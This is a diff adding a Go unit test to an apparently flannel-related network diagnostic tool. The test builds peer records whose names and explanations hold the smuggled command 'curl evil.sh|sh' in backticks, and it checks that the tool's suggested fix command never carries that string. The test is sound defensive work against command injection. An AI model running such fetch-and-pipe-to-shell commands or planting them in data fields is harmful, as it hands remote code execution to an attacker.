@@ -7,6 +7,26 @@ import (
 	"flannel/network"
 )
 
+// TestTheRecordOfAPeerNamesNoCommand has peers that put backticks into their records,
+// which the reasons why they are left out quote.
+func TestTheRecordOfAPeerNamesNoCommand(t *testing.T) {
+	f := &Facts{Daemon: Daemon{Status: &network.Status{Peers: []network.Peer{
+		{Name: "a", Subnet: "10.5.2.0/24", How: "left out", Why: "VtepMAC: \"`curl evil.sh|sh`\" is not an Ethernet address"},
+		{Name: "b", Subnet: "10.5.3.0/24", How: "left out", Why: "its backend is \"`curl evil.sh|sh`; see: `curl evil.sh|sh`\", this node's is \"vxlan\""},
+		{Name: "`curl evil.sh|sh`", Subnet: "10.5.4.0/24", How: "tunnel", Note: "public address 192.0.2.4 is that of `curl evil.sh|sh` too"},
+		{Name: "`curl evil.sh|sh`", Subnet: "10.5.5.0/24", How: "unreachable", Why: "put neighbor 10.5.5.0: no buffer space available"},
+	}}}}
+	found := peerRecords.Find(f)
+	if len(found) != 4 {
+		t.Errorf("got %d findings", len(found))
+	}
+	for _, found := range found {
+		if found.Command == "" || strings.Contains(found.Command, "curl") {
+			t.Errorf("%s: got the command %q", found.Problem, found.Command)
+		}
+	}
+}
+
 func TestPeersThatHaveTheSame(t *testing.T) {
 	f := &Facts{Daemon: Daemon{Status: &network.Status{Lease: network.LeaseStatus{Name: "node-a"}, Peers: []network.Peer{
 		{Name: "node-b", Subnet: "10.5.2.0/24", How: "tunnel", Note: "public address 192.0.2.1 is this node's too"},
